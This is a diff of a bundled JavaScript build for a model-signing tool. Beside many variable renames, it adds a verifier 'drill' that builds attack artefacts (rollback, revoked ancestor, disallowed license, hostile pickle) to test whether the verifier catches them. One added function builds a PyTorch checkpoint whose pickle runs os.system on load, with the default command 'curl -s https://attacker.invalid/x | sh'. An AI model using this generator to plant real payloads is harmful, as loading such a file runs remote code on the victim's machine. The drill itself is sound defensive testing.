       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path20.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path21.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -44849,7 +44856,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path20.dirname(destination);
+      const destDir = path21.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -47983,9 +47990,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path20 = __require("path");
-    var globify = (pattern) => pattern.split(path20.win32.sep).join(path20.posix.sep);
-    module.exports = (path21, options) => glob(globify(path21), options);
+    var path21 = __require("path");
+    var globify = (pattern) => pattern.split(path21.win32.sep).join(path21.posix.sep);
+    module.exports = (path22, options) => glob(globify(path22), options);
   }
 });
 
@@ -48017,7 +48024,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path20 = __require("path");
+    var path21 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -48033,7 +48040,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path20.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path21.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm5(p2, { recursive: true, force: true })));
     }
   }
@@ -48044,7 +48051,7 @@ var require_verify2 = __commonJS({
   "node_modules/cacache/lib/verify.js"(exports, module) {
     "use strict";
     var {
-      mkdir: mkdir5,
+      mkdir: mkdir6,
       readFile: readFile4,
       rm: rm5,
       stat: stat8,
@@ -48055,7 +48062,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path20 = __require("path");
+    var path21 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -48111,7 +48118,7 @@ var require_verify2 = __commonJS({
     }
     async function fixPerms(cache, opts) {
       opts.log.silly("verify", "fixing cache permissions");
-      await mkdir5(cache, { recursive: true });
+      await mkdir6(cache, { recursive: true });
       return null;
     }
     async function garbageCollect(cache, opts) {
@@ -48132,7 +48139,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path20.join(contentDir, "**"), {
+      const files = await glob(path21.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -48253,16 +48260,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm5(path20.join(cache, "tmp"), { recursive: true, force: true });
+      return rm5(path21.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path20.join(cache, "_lastverified");
+      const verifile = path21.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile7(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile4(path20.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile4(path21.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -48712,22 +48719,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path20 }) => path20.endsWith(".headers.authorization"),
+      predicate: ({ path: path21 }) => path21.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path20 }) => path20.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path21 }) => path21.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path20 }) => path20.endsWith(".headers.cookie"),
+      predicate: ({ path: path21 }) => path21.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path20 }) => path20.endsWith(".request"),
+      predicate: ({ path: path21 }) => path21.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -48737,7 +48744,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path20 }) => path20.endsWith(".response"),
+      predicate: ({ path: path21 }) => path21.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -48853,12 +48860,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path20 = rawPath.join(".").toLowerCase();
+        const path21 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path20 });
+        const shouldRun = predicate({ rawPath, path: path21 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path20 });
+          value = replace(value, { rawPath, path: path21 });
         }
         return value;
       }
@@ -55922,14 +55929,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path20) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path20)).toString();
+    function join2(base2, path21) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path21)).toString();
     }
-    function ensureTrailingSlash(path20) {
-      return path20.endsWith("/") ? path20 : path20 + "/";
+    function ensureTrailingSlash(path21) {
+      return path21.endsWith("/") ? path21 : path21 + "/";
     }
-    function removeLeadingSlash(path20) {
-      return path20.startsWith("/") ? path20.slice(1) : path20;
+    function removeLeadingSlash(path21) {
+      return path21.startsWith("/") ? path21.slice(1) : path21;
     }
   }
 });
@@ -55983,7 +55990,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path20 = __importStar(__require("path"));
+    var path21 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -56055,7 +56062,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path20.parse(targetFilePath);
+          const { dir, base: base2 } = path21.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -56082,7 +56089,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path20.join(this.dir, `${fileName}.json`);
+        const filePath = path21.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -56229,12 +56236,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path20.join(this.targetDir, filePath);
+        return path21.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path20.join(this.dir, `${encodedName}.json`);
+          const filePath = path21.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -56346,13 +56353,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path20 = await getTargetPath(tuf, targetPath);
+      const path21 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path20, "utf-8", (err, data) => {
+        fs_1.default.readFile(path21, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path20}`,
+              message: `error reading target ${path21}`,
               cause: err
             }));
           } else {
@@ -56378,19 +56385,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path20 = await tuf.findCachedTarget(targetInfo);
-      if (!path20) {
+      let path21 = await tuf.findCachedTarget(targetInfo);
+      if (!path21) {
         try {
-          path20 = await tuf.downloadTarget(targetInfo);
+          path21 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path20}`,
+            message: `error downloading target ${path21}`,
             cause: err
           });
         }
       }
-      return path20;
+      return path21;
     }
   }
 });
@@ -58670,7 +58677,7 @@ async function walkLineage(opts) {
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
     record();
-    const path20 = new Set(onPath).add(link.rootDigest);
+    const path21 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver7.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -58682,7 +58689,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path20, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path21, nextBelow));
     }
     return node;
   };
@@ -59318,6 +59325,79 @@ var init_check = __esm({
   }
 });
 
+// src/drill/hostile.ts
+import { crc32 } from "node:zlib";
+function osSystemPickle(cmd) {
+  const arg = Buffer.from(cmd, "utf8");
+  const len = Buffer.alloc(4);
+  len.writeUInt32LE(arg.length);
+  return Buffer.concat([
+    Buffer.from([128, 2]),
+    // PROTO 2
+    Buffer.from("cos\nsystem\n", "latin1"),
+    // GLOBAL os system
+    Buffer.from("X", "latin1"),
+    len,
+    arg,
+    // BINUNICODE cmd
+    Buffer.from([133]),
+    // TUPLE1
+    Buffer.from("R.", "latin1")
+    // REDUCE, STOP
+  ]);
+}
+function storedZip(members) {
+  const locals = [];
+  const central = [];
+  let offset = 0;
+  for (const m2 of members) {
+    const name2 = Buffer.from(m2.name, "utf8");
+    const crc = crc32(m2.data);
+    const lh = Buffer.alloc(30);
+    lh.writeUInt32LE(67324752, 0);
+    lh.writeUInt16LE(20, 4);
+    lh.writeUInt16LE(2048, 6);
+    lh.writeUInt32LE(crc, 14);
+    lh.writeUInt32LE(m2.data.length, 18);
+    lh.writeUInt32LE(m2.data.length, 22);
+    lh.writeUInt16LE(name2.length, 26);
+    locals.push(lh, name2, m2.data);
+    const ch = Buffer.alloc(46);
+    ch.writeUInt32LE(33639248, 0);
+    ch.writeUInt16LE(20, 4);
+    ch.writeUInt16LE(20, 6);
+    ch.writeUInt16LE(2048, 8);
+    ch.writeUInt32LE(crc, 16);
+    ch.writeUInt32LE(m2.data.length, 20);
+    ch.writeUInt32LE(m2.data.length, 24);
+    ch.writeUInt16LE(name2.length, 28);
+    ch.writeUInt32LE(offset, 42);
+    central.push(ch, name2);
+    offset += 30 + name2.length + m2.data.length;
+  }
+  const cd = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(101010256, 0);
+  end.writeUInt16LE(members.length, 8);
+  end.writeUInt16LE(members.length, 10);
+  end.writeUInt32LE(cd.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, end]);
+}
+function hostileTorchCheckpoint(cmd = "curl -s https://attacker.invalid/x | sh") {
+  return storedZip([
+    { name: "archive/data.pkl", data: osSystemPickle(cmd) },
+    { name: "archive/byteorder", data: Buffer.from("little") },
+    { name: "archive/data/0", data: Buffer.alloc(16, 128) },
+    { name: "archive/version", data: Buffer.from("3\n") }
+  ]);
+}
+var init_hostile = __esm({
+  "src/drill/hostile.ts"() {
+    "use strict";
+  }
+});
+
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile5 } from "node:fs/promises";
 import path16 from "node:path";
@@ -59332,25 +59412,51 @@ function filler(n, seed) {
   }
   return b2;
 }
+function safetensorsShard(tensor, data) {
+  const header = Buffer.from(JSON.stringify({ [tensor]: { dtype: "U8", shape: [data.length], data_offsets: [0, data.length] } }), "utf8");
+  const len = Buffer.alloc(8);
+  len.writeBigUInt64LE(BigInt(header.length));
+  return Buffer.concat([len, header, data]);
+}
 async function writeModel(dir, seed = 1) {
   await mkdir3(path16.join(dir, "tokenizer"), { recursive: true });
-  await writeFile5(path16.join(dir, SHARD_1), filler(64 * 1024, seed));
-  await writeFile5(path16.join(dir, SHARD_2), filler(64 * 1024, seed + 1));
+  await writeFile5(path16.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile5(path16.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
   await writeFile5(path16.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
   await writeFile5(path16.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
   await writeFile5(path16.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
-async function signDrillModel(dir, key, version = "1.0.0") {
-  await signModel({ model: dir, version, name: "drill-model", license: "apache-2.0", signer: keySigner(key.priv, key.pub), engine: { jobs: 1 } });
+async function signDrillModel(dir, key, o = {}) {
+  const r = await signModel({
+    model: dir,
+    version: o.version ?? "1.0.0",
+    name: o.name ?? DRILL_MODEL_NAME,
+    license: o.license ?? "apache-2.0",
+    signer: keySigner(key.priv, key.pub),
+    engine: { jobs: 1 },
+    ...o.extra ? { extraMetadata: o.extra } : {}
+  });
+  return { bundleText: r.bundleText, rootDigest: r.rootDigest };
 }
-var SHARD_1, SHARD_2;
+var SHARD_1, SHARD_2, DRILL_MODEL_NAME;
 var init_model = __esm({
   "src/drill/model.ts"() {
     "use strict";
     init_sign();
     SHARD_1 = "model-00001-of-00002.safetensors";
     SHARD_2 = "model-00002-of-00002.safetensors";
+    DRILL_MODEL_NAME = "drill-model";
+  }
+});
+
+// src/drill/types.ts
+var AttackNotApplicable;
+var init_types3 = __esm({
+  "src/drill/types.ts"() {
+    "use strict";
+    AttackNotApplicable = class extends Error {
+    };
   }
 });
 
@@ -59390,6 +59496,11 @@ function canMakeFifo(dir) {
     return false;
   }
 }
+async function emptyStore(ctx, name2) {
+  const dir = path17.join(ctx.tmp, name2);
+  await mkdir4(dir, { recursive: true });
+  return dir;
+}
 var sha256, ATTACKS;
 var init_attacks = __esm({
   "src/drill/attacks.ts"() {
@@ -59398,7 +59509,11 @@ var init_attacks = __esm({
     init_bundle();
     init_dsse();
     init_serialize();
+    init_store();
+    init_state();
+    init_hostile();
     init_model();
+    init_types3();
     sha256 = (b2) => createHash6("sha256").update(b2).digest("hex");
     ATTACKS = [
       {
@@ -59453,7 +59568,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const other = await writeModel(path17.join(ctx.tmp, "other-model"), 99);
-          await signDrillModel(other, ctx.signer);
+          await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
           await copyFile(path17.join(other, "model.sig"), path17.join(m2, "model.sig"));
           return { model: m2 };
@@ -59487,7 +59602,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
-          const evil = filler(64 * 1024, 666);
+          const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
           await writeFile6(path17.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
@@ -59579,17 +59694,72 @@ var init_attacks = __esm({
           return { model: m2 };
         }
       },
-      // Attacks whose checks belong to features built elsewhere; the lead adds `build` on merge.
-      { id: "rollback", title: "an older signed version presented as current (version rollback)", needs: ["trusted-signature", "lineage"] },
-      { id: "revoked-ancestor", title: "a fine-tune of a revoked base model", needs: ["trusted-signature", "lineage"] },
-      { id: "license-outside-policy", title: "a model whose license the policy does not allow for this purpose", needs: ["trusted-signature", "policy"] },
-      { id: "hostile-pickle", title: "a pickle that runs code when loaded", needs: ["trusted-signature", "scan"] }
+      {
+        id: "rollback",
+        title: "an older signed version presented after a newer one was verified (version rollback)",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const stateFile = path17.join(ctx.tmp, "rollback-state.json");
+          const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
+          const newer = path17.join(ctx.tmp, "rollback-newer");
+          await writeModel(newer, 21);
+          await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
+          const r = await ctx.verify(newer, setup);
+          if (!r.verified) throw new AttackNotApplicable(`the set-up refuses the newer version 2.0.0 the rollback starts from: ${r.failures[0]?.message ?? "unknown"} [${r.failures[0]?.code ?? "?"}]`);
+          const failed = await recordVerified(stateFile, { name: DRILL_MODEL_NAME, version: "2.0.0", rootDigest: `sha256:${r.rootDigest}` });
+          if (failed) throw new Error(`drill: cannot record 2.0.0 in its own state file: ${failed.message}`);
+          return { model: await ctx.copyBase("rollback"), setup };
+        }
+      },
+      {
+        id: "revoked-ancestor",
+        title: "a correctly signed fine-tune of a revoked base model",
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const parentBundle = await readFile3(path17.join(ctx.base, "model.sig"));
+          const { statement } = await readSigned(ctx.base);
+          const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
+          const storeDir = path17.join(ctx.tmp, "revoked-store");
+          await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
+          const m2 = path17.join(ctx.tmp, "revoked-ancestor");
+          await writeModel(m2, 31);
+          const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
+          await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
+          return { model: m2, setup: { storeDir, revoked: [parentDigest] } };
+        }
+      },
+      {
+        id: "license-outside-policy",
+        title: "a correctly signed model whose license the policy does not allow for this purpose",
+        needs: ["trusted-signature", "policy"],
+        async build(ctx) {
+          const lic = ctx.licenses.outside;
+          if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
+          const m2 = path17.join(ctx.tmp, "license-outside-policy");
+          await writeModel(m2, 41);
+          await signDrillModel(m2, ctx.signer, { license: lic });
+          return { model: m2 };
+        }
+      },
+      {
+        id: "hostile-pickle",
+        title: "a correctly signed model with a PyTorch checkpoint whose pickle runs os.system when loaded",
+        // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
+        needs: ["trusted-signature"],
+        async build(ctx) {
+          const m2 = path17.join(ctx.tmp, "hostile-pickle");
+          await writeModel(m2, 51);
+          await writeFile6(path17.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
+          return { model: m2 };
+        }
+      }
     ];
   }
 });
 
 // src/drill/run.ts
-import { cp, mkdtemp as mkdtemp2, rm as rm4 } from "node:fs/promises";
+import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm4 } from "node:fs/promises";
 import os5 from "node:os";
 import path18 from "node:path";
 async function runDrill(opts) {
@@ -59597,10 +59767,13 @@ async function runDrill(opts) {
   try {
     const base2 = path18.join(tmp, "base-model");
     await writeModel(base2, 1);
+    const store = path18.join(tmp, "lineage-store");
+    await mkdir5(store);
+    const defaultSetup = { storeDir: store };
     let baseline;
     if (opts.signer) {
-      await signDrillModel(base2, opts.signer);
-      const r = await opts.verifier.verify(base2);
+      await signDrillModel(base2, opts.signer, { license: opts.verifier.licenses.allowed });
+      const r = await opts.verifier.verify(base2, void 0, defaultSetup);
       const f2 = r.failures[0];
       baseline = r.verified ? { verified: true, reason: `a model signed with --signing-key (sha256:${keyHint(opts.signer.pub).slice(0, 16)}\u2026) verifies` } : { verified: false, reason: `the set-up refuses a model signed with --signing-key: ${f2 ? `${f2.message} [${f2.code}]` : "unknown"}` };
     } else {
@@ -59617,10 +59790,12 @@ async function runDrill(opts) {
         const dest = path18.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
-      }
+      },
+      licenses: opts.verifier.licenses,
+      verify: (model, setup) => opts.verifier.verify(model, void 0, setup)
     };
     const reports = [];
-    for (const a of opts.attacks ?? ATTACKS) reports.push(await runAttack(a, ctx, opts.verifier, met));
+    for (const a of opts.attacks ?? ATTACKS) reports.push(await runAttack(a, ctx, opts.verifier, met, defaultSetup));
     return {
       verifier: opts.verifier.description,
       baseline,
@@ -59635,7 +59810,7 @@ async function runDrill(opts) {
 }
 function skipReason(a, met, hasSigner) {
   for (const n of a.needs) {
-    if (!met.has(n) && FEATURE_NEEDS.includes(n)) return `needs the ${n} feature, which this build of modelsign does not have`;
+    if (!met.has(n) && FEATURE_NEEDS.includes(n)) return `needs --${n} FILE: only a policy has this rule`;
   }
   for (const n of a.needs) {
     if (met.has(n)) continue;
@@ -59643,16 +59818,21 @@ function skipReason(a, met, hasSigner) {
     if (n === "fifo") return "this platform cannot make named pipes (mkfifo)";
     return `needs ${n}`;
   }
-  if (!a.build) return "not implemented in this build";
   return void 0;
 }
-async function runAttack(a, ctx, verifier, met) {
+async function runAttack(a, ctx, verifier, met, defaultSetup) {
   const why = skipReason(a, met, ctx.signer !== void 0);
   if (why) return { id: a.id, title: a.title, outcome: "skipped", codes: [], reason: why };
-  const built = await a.build(ctx);
+  let built;
+  try {
+    built = await a.build(ctx);
+  } catch (e) {
+    if (e instanceof AttackNotApplicable) return { id: a.id, title: a.title, outcome: "skipped", codes: [], reason: e.message };
+    throw e;
+  }
   let r;
   try {
-    r = await verifier.verify(built.model, built.signature);
+    r = await verifier.verify(built.model, built.signature, built.setup ?? defaultSetup);
   } catch (e) {
     if (e instanceof ModelsignError) return { id: a.id, title: a.title, outcome: "caught", codes: [e.code] };
     throw e;
@@ -59668,26 +59848,80 @@ var init_run = __esm({
     init_algorithms();
     init_attacks();
     init_model();
-    FEATURE_NEEDS = ["lineage", "policy", "scan"];
+    init_types3();
+    FEATURE_NEEDS = ["policy"];
   }
 });
 
 // src/drill/verifier.ts
+import path19 from "node:path";
+async function pickLicenses(policy, purpose) {
+  const rule = policy?.rules[purpose];
+  if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
+  const { evaluateLicense: evaluateLicense2, normalizeLicense: normalizeLicense2 } = await Promise.resolve().then(() => (init_licenses(), licenses_exports));
+  const ok = (l) => evaluateLicense2(normalizeLicense2(l), rule).ok;
+  const written = policy.license[purpose];
+  const allowed = [DEFAULT_DRILL_LICENSE, ...written.allow].find(ok) ?? DEFAULT_DRILL_LICENSE;
+  const outside = [...written.deny, ...OUTSIDE_CANDIDATES].find((l) => !ok(l));
+  return { allowed, ...outside !== void 0 ? { outside } : {} };
+}
 async function drillVerifier(cfg) {
-  if (cfg.policy !== void 0) {
-    throw usage("DRILL_POLICY_UNSUPPORTED", `drill --policy: this build of modelsign has no policy support yet, so it cannot build the verifier ${cfg.policy} describes; use --key PUBLIC_KEY`);
+  if (cfg.purpose !== void 0 && cfg.policy === void 0) throw usage("MISSING_OPTION", "--purpose needs --policy FILE");
+  if (cfg.purpose !== void 0 && !PURPOSES.includes(cfg.purpose)) {
+    throw usage("BAD_OPTION", `--purpose must be one of ${PURPOSES.join(", ")} (got "${cfg.purpose}")`);
   }
-  if (cfg.keys.length === 0) throw usage("MISSING_OPTION", "drill needs the set-up to test: --key PUBLIC_KEY (repeatable) or --policy FILE");
-  const trust = await Promise.all(cfg.keys.map(async (k2) => keyTrust(await loadPublicKey(k2), `key ${k2}`)));
-  const stages = [];
-  const features = /* @__PURE__ */ new Set(["keys"]);
+  const purpose = cfg.purpose ?? "deploy";
+  let policy;
+  if (cfg.policy !== void 0) policy = await (await Promise.resolve().then(() => (init_load(), load_exports))).loadPolicy(cfg.policy);
+  let trust;
+  let trustDesc;
+  if (cfg.keys.length > 0 || !policy?.trust) {
+    if (cfg.keys.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} has no trust section, so give --key PUBLIC_KEY`);
+    const [{ loadPublicKey: loadPublicKey2 }, { keyTrust: keyTrust2 }] = await Promise.all([Promise.resolve().then(() => (init_keyfile(), keyfile_exports)), Promise.resolve().then(() => (init_trust_key(), trust_key_exports))]);
+    trust = await Promise.all(cfg.keys.map(async (k2) => keyTrust2(await loadPublicKey2(k2), `key ${k2}`)));
+    trustDesc = `keys ${cfg.keys.join(", ")}`;
+  } else {
+    const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
+    const file = policy.file;
+    trust = await policyTrust2(policy.trust, (f2) => path19.relative(path19.dirname(file), f2));
+    trustDesc = `trust section of ${cfg.policy}`;
+  }
+  if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
+  const [{ lineageStage: lineageStage2, openStore: openStore2 }, { policyStage: policyStage2 }, { formatsStages: formatsStages2 }, { verifyModel: verifyModel2 }] = await Promise.all([
+    Promise.resolve().then(() => (init_lineage(), lineage_exports)),
+    Promise.resolve().then(() => (init_stage2(), stage_exports)),
+    Promise.resolve().then(() => (init_formats(), formats_exports)),
+    Promise.resolve().then(() => (init_pipeline(), pipeline_exports))
+  ]);
+  const formats = policy ? formatsStages2(policy.formats) : [];
+  const features = /* @__PURE__ */ new Set(["keys", "lineage"]);
+  if (policy) features.add("policy");
+  if (policy?.formats && (policy.formats.scan || policy.formats.deny.length > 0)) features.add("scan");
+  const stagesFor = async (setup) => {
+    const store = setup.storeDir !== void 0 ? await openStore2(setup.storeDir) : void 0;
+    const drillRevoked = setup.revoked ?? [];
+    const stages = [
+      lineageStage2({
+        ...store ? { store } : {},
+        ...setup.stateFile !== void 0 ? { stateFile: setup.stateFile } : {},
+        // Without a policy, the drill's revocations go through the lineage stage (verify --revoked).
+        ...!policy && drillRevoked.length > 0 ? { revoked: { digests: new Set(drillRevoked), reasons: /* @__PURE__ */ new Map() } } : {}
+      })
+    ];
+    if (policy) {
+      const p2 = drillRevoked.length > 0 ? { ...policy, revoked: [...policy.revoked, ...drillRevoked] } : policy;
+      stages.push(policyStage2(p2, purpose), ...formats);
+    }
+    return stages;
+  };
   return {
-    description: `keys ${cfg.keys.join(", ")}${cfg.purpose ? ` (purpose ${cfg.purpose})` : ""}`,
+    description: policy ? `policy ${cfg.policy} (${trustDesc}; purpose ${purpose})` : trustDesc,
     features,
-    verify: (model, signature) => verifyModel({
+    licenses: await pickLicenses(policy, purpose),
+    verify: async (model, signature, setup = {}) => verifyModel2({
       model,
       trust,
-      stages,
+      stages: await stagesFor(setup),
       ...signature ? { signature } : {},
       ignorePaths: [],
       ignoreUnsignedFiles: false,
@@ -59695,13 +59929,14 @@ async function drillVerifier(cfg) {
     })
   };
 }
+var DEFAULT_DRILL_LICENSE, OUTSIDE_CANDIDATES;
 var init_verifier = __esm({
   "src/drill/verifier.ts"() {
     "use strict";
     init_errors();
-    init_keyfile();
-    init_trust_key();
-    init_pipeline();
+    init_types2();
+    DEFAULT_DRILL_LICENSE = "apache-2.0";
+    OUTSIDE_CANDIDATES = ["LicenseRef-modelsign-drill-proprietary", "cc-by-nc-4.0", "proprietary", "gpl-3.0"];
   }
 });
 
@@ -61485,6 +61720,7 @@ var index_exports = {};
 __export(index_exports, {
   ATTACKS: () => ATTACKS,
   AUDIT_GENESIS: () => GENESIS,
+  AttackNotApplicable: () => AttackNotApplicable,
   BUNDLE_MEDIA_TYPE: () => BUNDLE_MEDIA_TYPE,
   DENIABLE_FORMATS: () => DENIABLE_FORMATS,
   EXIT: () => EXIT,
@@ -61605,6 +61841,7 @@ var init_index = __esm({
     init_trust_sigstore();
     init_keyless();
     init_trusted_root();
+    init_types3();
   }
 });
 
@@ -61948,7 +62185,7 @@ init_errors();
 init_io();
 import { mkdtempSync, rmSync as rmSync2, writeFileSync as writeFileSync2 } from "node:fs";
 import os6 from "node:os";
-import path19 from "node:path";
+import path20 from "node:path";
 
 // src/cli/verify-key.ts
 init_io();
@@ -62504,9 +62741,9 @@ function keyPaths(r, cleanup, secret) {
   const raw = r.input("key");
   if (!raw.includes("-----BEGIN")) return r.listInput("key");
   if (secret) r.mask(raw);
-  const dir = mkdtempSync(path19.join(process.env.RUNNER_TEMP || os6.tmpdir(), "modelsign-key-"));
+  const dir = mkdtempSync(path20.join(process.env.RUNNER_TEMP || os6.tmpdir(), "modelsign-key-"));
   cleanup.dirs.push(dir);
-  const file = path19.join(dir, secret ? "signing.key" : "trusted.pub");
+  const file = path20.join(dir, secret ? "signing.key" : "trusted.pub");
   writeFileSync2(file, raw.endsWith("\n") ? raw : `${raw}
 `, { mode: 384 });
   return [file];
